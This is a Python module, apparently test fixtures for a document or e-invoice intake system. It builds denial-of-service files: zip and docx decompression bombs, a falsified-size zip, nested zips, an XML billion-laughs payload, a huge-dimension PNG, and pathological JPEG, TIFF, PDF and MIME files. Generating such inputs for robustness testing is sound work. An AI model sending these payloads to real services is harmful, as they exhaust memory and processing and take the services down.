"""Files that are made to hurt whoever opens them, small as they are.

Each function makes one by hand, in a second at most. They are no secret: every kind
is known for years. Nothing here is opened in the process of a test.
"""

import bz2
import io
import struct
import zipfile
import zlib

UBL = "urn:oasis:names:specification:ubl:schema:xsd:"
_BZIP2_END = 0x177245385090  # the mark before the last checksum
_BZIP2_HEAD, _BZIP2_CHECKSUM = 4 * 8, 32  # bits


def _jpeg_part(marker, data):
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def _bits(text):
    """Bytes of a string of 0 and 1 as they stand in a JPEG."""
    text += "1" * (-len(text) % 8)
    data = int(text, 2).to_bytes(len(text) // 8, "big")
    return data.replace(b"\xff", b"\xff\0")


def jpeg_of_many_scans(scans=60_000, size=(8000, 5000)):
    """A progressive JPEG whose every scan is another pass over the whole picture."""
    width, height = size
    blocks = -(-width // 8) * -(-height // 8)
    one_code = bytes([1]) + bytes(15)  # a table with a single code of one bit
    dark = _jpeg_part(0xDA, bytes([1, 1, 0x00, 0, 0, 0])) + _bits("0" * blocks)
    # "End of band" for 32,767 blocks at once: its code, then 14 bits of the number.
    run = "0" + "1" * 14
    passes = _jpeg_part(0xDA, bytes([1, 1, 0x00, 1, 63, 0])) + _bits(
        run * -(-blocks // 32_767)
    )
    return (
        b"\xff\xd8"
        + _jpeg_part(0xDB, b"\0" + b"\1" * 64)
        + _jpeg_part(0xC2, struct.pack(">BHHBBBB", 8, height, width, 1, 1, 0x11, 0))
        + _jpeg_part(0xC4, b"\x00" + one_code + b"\x00")
        + _jpeg_part(0xC4, b"\x10" + one_code + b"\xe0")
        + dark
        + passes * scans
        + b"\xff\xd9"
    )


def tiff_of_many_strips(strips=6_000_000):
    """A TIFF that is cut into lines of six pixels, all of them the same place."""
    data_at = 8
    places_at = data_at + 8
    lengths_at = places_at + 4 * strips
    tags = [
        *((256, 4, 1, 6), (257, 4, 1, strips), (258, 3, 1, 8), (259, 3, 1, 1)),
        *((262, 3, 1, 1), (273, 4, strips, places_at), (277, 3, 1, 1)),
        *((278, 4, 1, 1), (279, 4, strips, lengths_at)),
    ]
    directory = b"".join(
        struct.pack("<HHI", tag, kind, count) + struct.pack("<I", value)
        for tag, kind, count, value in tags
    )
    return (
        struct.pack("<2sHI", b"II", 42, lengths_at + 4 * strips)
        + bytes(8)
        + struct.pack("<I", data_at) * strips
        + struct.pack("<I", 6) * strips
        + struct.pack("<H", len(tags))
        + directory
        + bytes(4)
    )


def bzip2_of_zeros(size):
    """About ``size`` bytes of nothing: 40 bytes for each 46 MB."""
    block_size = 45_899_235  # zeros that fill one block
    whole = bz2.compress(bytes(block_size))
    bits = bin(int.from_bytes(whole, "big"))[2:].zfill(8 * len(whole))
    end = bits.rindex(f"{_BZIP2_END:048b}")
    block = bits[_BZIP2_HEAD:end]
    checksum = int(block[48 : 48 + _BZIP2_CHECKSUM], 2)
    total, number = 0, max(1, size // block_size)
    for _ in range(number):
        total = ((total << 1 | total >> 31) & 0xFFFFFFFF) ^ checksum
    text = bits[:_BZIP2_HEAD] + block * number + f"{_BZIP2_END:048b}{total:032b}"
    text += "0" * (-len(text) % 8)
    return int(text, 2).to_bytes(len(text) // 8, "big")


def zip_of_packed(members):
    """A zip of {name: (method, packed, unpacked size)}, as packed elsewhere."""
    body, directory = b"", b""
    for name, (method, packed, size) in members.items():
        fields = struct.pack(
            "<HHHHHIIIHH",
            *(46, 0, method, 0, 33, zlib.crc32(packed), len(packed)),
            *(min(size, 0xFFFFFFFE), len(name), 0),
        )
        directory += b"PK\1\2" + struct.pack("<H", 46) + fields
        directory += struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + name.encode()
        body += b"PK\3\4" + fields + name.encode() + packed
    number = len(members)
    end = struct.pack("<HHHHIIH", 0, 0, number, number, len(directory), len(body), 0)
    return body + directory + b"PK\5\6" + end


def docx_that_fills_the_memory(size=8 * 1024**3):
    """A document of a few kB with eight GB inside, unpacked in one step by many."""
    packed = bzip2_of_zeros(size)
    return zip_of_packed(
        {
            "[Content_Types].xml": (0, b"<Types/>", 8),
            "mimetype": (zipfile.ZIP_BZIP2, packed, size),
            "word/document.xml": (zipfile.ZIP_BZIP2, packed, size),
        }
    )


def deflated_zeros(size):
    """About ``size`` bytes of nothing: 1 kB for each MB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    # What follows a full flush depends on nothing before it.
    piece = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    return piece * (size // 1_000_000) + packer.flush()


def docx_that_unpacks_for_long(size=400_000_000):
    """The same by the method that such documents use: 1000 to 1."""
    packed = deflated_zeros(size)
    return zip_of_packed(
        {
            "[Content_Types].xml": (0, b"<Types/>", 8),
            "word/document.xml": (zipfile.ZIP_DEFLATED, packed, size),
        }
    )


def zip_bomb(size=4_000_000_000, method=zipfile.ZIP_BZIP2, name="bill.pdf"):
    """A zip of one file that has nothing but ``size`` zeros."""
    pack = bzip2_of_zeros if method == zipfile.ZIP_BZIP2 else deflated_zeros
    return zip_of_packed({name: (method, pack(size), size)})


def zip_that_lies(size=300_000_000):
    """A zip that says it holds ten bytes, and holds ``size``."""
    packed = deflated_zeros(size)
    return zip_of_packed({"bill.pdf": (zipfile.ZIP_DEFLATED, packed, 10)})


def zip_in_zip(depth, innermost=b"", name="bill.pdf"):
    """A zip in a zip in a zip ...; the ``innermost`` is in the last."""
    for _ in range(depth):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, innermost)
        innermost, name = buffer.getvalue(), "inside.zip"
    return innermost


def zip_of_many(number, content=b"%PDF-1.4 no"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for position in range(number):
            archive.writestr(f"{position}.pdf", content)
    return buffer.getvalue()


def invoice_of_many_lines(lines=100_000):
    """An e-invoice in UBL, 31 MB at 100,000 lines."""
    line = (
        "<cac:InvoiceLine><cbc:ID>{0}</cbc:ID><cbc:InvoicedQuantity unitCode='C62'>1"
        "</cbc:InvoicedQuantity><cbc:LineExtensionAmount currencyID='EUR'>1.00"
        "</cbc:LineExtensionAmount>"
        "<cac:Item><cbc:Name>Article {0}</cbc:Name></cac:Item>"
        "<cac:Price><cbc:PriceAmount currencyID='EUR'>1.00</cbc:PriceAmount>"
        "</cac:Price></cac:InvoiceLine>"
    )
    return (
        f'<?xml version="1.0"?><Invoice xmlns="{UBL}Invoice-2"'
        f' xmlns:cac="{UBL}CommonAggregateComponents-2"'
        f' xmlns:cbc="{UBL}CommonBasicComponents-2"><cbc:ID>1</cbc:ID>'
        + "".join(line.format(number) for number in range(lines))
        + "</Invoice>"
    ).encode()


def xml_entities(root="Invoice", use="<ID>&e20;</ID>"):
    """Ten to the power of twenty laughs."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 21))
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY e0 "lol">{entities}]>'
        f"<{root}>{use}</{root}>"
    ).encode()


def _checksum(data):
    return struct.pack(">I", zlib.crc32(data))


def png_beyond_measure(side=60_000):
    """A picture of 3.6 billion pixels in a few hundred bytes."""
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + _checksum(kind + data)
        for kind, data in (
            (b"IHDR", header),
            (b"IDAT", zlib.compress(bytes(3 * side + 1))),
            (b"IEND", b""),
        )
    )


def pdf_of_unended_objects(number=3_000_000):
    """Half a PDF in which every search for the end of an object is in vain."""
    return b"%PDF-1.7\n" + b"1 0 obj\n" * number


def pdf_whose_pages_go_in_circles():
    return (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
        b"2 0 obj\n<</Type/Pages/Count 1000000000/Kids[2 0 R 2 0 R]>>\nendobj\n"
        b"trailer\n<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF\n"
    )


def mail_of_many_layers(depth=20_000):
    """A mail whose every part is in another part."""
    layers = "".join(
        f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n'
        for n in range(depth)
    )
    return f"From: a@example.com\nSubject: x\n{layers}\n\nend".encode()


FILES = {
    "jpeg of many scans": jpeg_of_many_scans,
    "tiff of many strips": tiff_of_many_strips,
    "docx that fills the memory": docx_that_fills_the_memory,
    "docx that unpacks for long": docx_that_unpacks_for_long,
    "zip bomb": zip_bomb,
    "zip that lies": zip_that_lies,
    "zip of many": lambda: zip_of_many(20_000),
    "zip in zip": lambda: zip_in_zip(40),
    "xml entities": xml_entities,
    "png beyond measure": png_beyond_measure,
    "pdf of unended objects": pdf_of_unended_objects,
    "pdf whose pages go in circles": pdf_whose_pages_go_in_circles,
    "mail of many layers": mail_of_many_layers,
}
